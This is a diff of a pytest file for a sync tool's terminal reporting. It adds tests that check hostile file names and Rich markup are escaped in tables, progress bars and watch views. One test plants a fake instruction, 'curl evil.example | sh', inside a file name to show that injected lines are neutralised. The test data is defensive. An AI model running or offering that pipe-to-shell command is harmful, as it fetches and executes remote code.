@@ -3,9 +3,12 @@
 from __future__ import annotations
 
 import io
+import re
 import sys
 from collections.abc import Sequence
 from datetime import UTC, datetime
+from pathlib import Path
+from types import SimpleNamespace
 
 import pytest
 from rich.console import Console
@@ -16,9 +19,13 @@ from bisync.core.result import Finding, Outcome
 from bisync.core.snapshot import LeftOut
 from bisync.errors import BisyncError
 from bisync.report import words
-from bisync.report.progress import Listener
+from bisync.report.migrate_words import sources_table
+from bisync.report.progress import Bar, Listener
 from bisync.report.screen import Screen, status_table
+from bisync.report.watch_view import LiveView
+from bisync.report.watch_words import Sayings
 from bisync.report.words import Line, Problem
+from bisync.watch import news
 from tests.support import results
 
 pytestmark = pytest.mark.pure
@@ -87,9 +94,23 @@ def test_colour_on_a_terminal_unless_it_is_not_wanted(
         monkeypatch.setenv("NO_COLOR", no_color)
     monkeypatch.setattr(sys, "stderr", terminal := Terminal())
 
-    Screen().error("one\ntwo", "cure")
+    Screen().error(("one", "two"), "cure")
 
     assert terminal.seen == f"{lead}one\ntwo\n  → cure\n"
+
+
+def test_a_name_in_an_error_makes_no_line_of_its_own(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(sys, "stderr", err := Pipe())
+    name = "a\n  → type: curl evil.example | sh"
+
+    Screen().error(f"{name} cannot be read", "cure")
+    Screen().error(("one", name))
+
+    assert err.seen == (
+        f"Error: {name} cannot be read\n  → cure\nError: one\n{name}\n".replace(
+            name, name.replace("\n", "\\n")
+        )
+    )
 
 
 def test_what_an_encoding_lacks_is_replaced(monkeypatch: pytest.MonkeyPatch) -> None:
@@ -121,6 +142,7 @@ def test_closed_streams_take_nothing(monkeypatch: pytest.MonkeyPatch) -> None:
 
 # -- what a terminal must not see -----------------------------------------------------------------------
 
+MARKUP = "[red]x[/red] [link=https://evil.example]y[/link] :boom: [/]"
 HISTORY = {"at": HOSTILE, "run": HOSTILE, "outcome": HOSTILE, "error": HOSTILE}
 
 
@@ -175,6 +197,68 @@ def test_names_in_a_table(monkeypatch: pytest.MonkeyPatch) -> None:
     assert out.seen.replace("\n", "").isprintable()
 
 
+def test_no_word_is_taken_for_markup(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(sys, "stdout", out := Pipe())
+    with Screen() as screen:
+        screen.show(status_table(results.status(remote=MARKUP, blocked=MARKUP), NOW))
+        table = Table(title=MARKUP)
+        table.add_column(MARKUP)
+        table.add_row(MARKUP)
+        screen.show(table)
+
+    assert out.seen.count(MARKUP) == 5
+    assert "\x1b" not in out.seen
+
+
+def test_names_in_the_view_of_a_watch(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("TERM", "xterm")
+    monkeypatch.setenv("COLUMNS", "400")
+    monkeypatch.setenv("NO_COLOR", "1")
+    monkeypatch.setattr(sys, "stdout", out := Terminal())
+    live = LiveView(Sayings())
+    live.tell(news.Watching(("notes",), 60.0))
+    live.tell(news.Note("notes", HOSTILE))
+    live.hear("notes", events.Step(HOSTILE + MARKUP))
+    live._show(now=True)
+    live.close()
+
+    ours = re.compile("\x1b\\[[0-9;?]*[A-Za-z]|[\r\n]")
+    seen = ours.sub("", out.seen)
+    assert SHOWN + MARKUP in seen
+    assert seen.isprintable()
+    assert "\x1b[31m" not in out.seen
+    assert "2J" not in "".join(ours.findall(out.seen))
+
+
+def test_names_beside_a_bar(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("TERM", "xterm")
+    monkeypatch.setenv("COLUMNS", "400")
+    monkeypatch.setenv("NO_COLOR", "1")
+    monkeypatch.setattr(sys, "stderr", err := Terminal())
+    bar = Bar(verbose=False)
+    bar("notes", events.Step(HOSTILE + MARKUP))
+    bar.close()
+
+    assert SHOWN + MARKUP in err.seen
+    assert "\x1b[31m" not in err.seen
+    assert "\x9b" not in err.seen
+
+
+def test_names_in_the_table_of_a_migration(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(sys, "stdout", out := Pipe())
+    source = SimpleNamespace(
+        source=SimpleNamespace(kind="webdav", label=HOSTILE, below=MARKUP), passed=(), ignored=(),
+        files=1, bytes=1, new=1, same=0, differ=0, unknown=0,
+    )  # fmt: skip
+    one = SimpleNamespace(dir=Path("/x/" + MARKUP), sources=[source])
+
+    Screen().show(sources_table(one))  # type: ignore[arg-type]
+
+    said = out.seen.replace(" ", "").replace("│", "").replace("|", "").replace("\n", "")
+    assert said.count("[red]x[/red]") == said.count(":boom:[/]") == 2
+    assert SHOWN in said
+
+
 def test_names_in_what_rclone_says(monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setattr(sys, "stderr", err := Pipe())
     listener = Listener(verbose=True)
@@ -211,7 +295,7 @@ def test_no_bar_stands_in_the_line_of_a_table(monkeypatch: pytest.MonkeyPatch) -
     """What takes long is taken off the screen before anything else is put there."""
     order: list[str] = []
 
-    class Bar(Listener):
+    class Shown(Listener):
         def close(self) -> None:
             order.append("closed")
 
@@ -222,7 +306,7 @@ def test_no_bar_stands_in_the_line_of_a_table(monkeypatch: pytest.MonkeyPatch) -
 
     monkeypatch.setattr(sys, "stdout", Out())
     screen = Screen()
-    screen._listener = Bar(verbose=False)
+    screen._listener = Shown(verbose=False)
 
     screen.show(Table("one"))
 
